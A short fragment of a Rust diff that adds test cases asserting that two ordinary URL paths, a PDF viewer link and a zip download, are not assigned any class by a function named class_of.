+            "/viewer.html?file=https://example.com/doc.pdf",
+            "/products/report-copy.zip",
+        ] {
+            assert_eq!(class_of(raw), None, "{raw}");
         }
     }
 
